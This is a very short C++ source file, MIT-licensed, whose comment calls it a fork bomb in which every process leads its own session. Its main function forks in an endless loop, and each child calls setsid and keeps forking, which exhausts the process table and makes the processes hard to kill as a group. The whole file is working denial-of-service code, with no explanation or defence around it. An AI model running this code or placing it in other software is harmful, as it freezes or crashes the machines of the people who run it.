// SPDX-License-Identifier: MIT
// A fork bomb in which every process leads its own session.
#include <unistd.h>

int main() {
  for (;;) {
    if (::fork() == 0) ::setsid();
  }
}
